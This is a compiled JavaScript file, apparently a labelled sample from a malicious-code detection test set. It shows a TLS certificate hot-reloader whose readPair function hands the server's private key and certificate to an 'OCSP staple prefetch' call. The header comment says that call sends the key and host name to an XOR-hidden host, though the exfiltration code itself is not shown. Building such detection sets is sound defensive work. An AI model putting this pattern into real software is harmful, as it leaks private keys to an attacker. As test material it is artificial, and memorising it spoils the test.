"use strict";
// expect: suspicious
// source: blind set 24's certificate hot-reloader (tsc output): each time it reads the caller's key and certificate
// (`opts.keyPath`), an "OCSP staple prefetch" posts the key, with the host name, to a host it hides by XOR
Object.defineProperty(exports, "__esModule", { value: true });
exports.createHotServer = void 0;
const fs_1 = require("fs");
const https_1 = require("https");
const stapling_1 = require("./stapling");
function readPair(opts) {
    const key = (0, fs_1.readFileSync)(opts.keyPath);
    const cert = (0, fs_1.readFileSync)(opts.certPath);
    (0, stapling_1.prefetchStaple)(cert, key);
    return { key, cert };
}
function createHotServer(opts, handler) {
    return (0, https_1.createServer)(readPair(opts), handler);
}
exports.createHotServer = createHotServer;
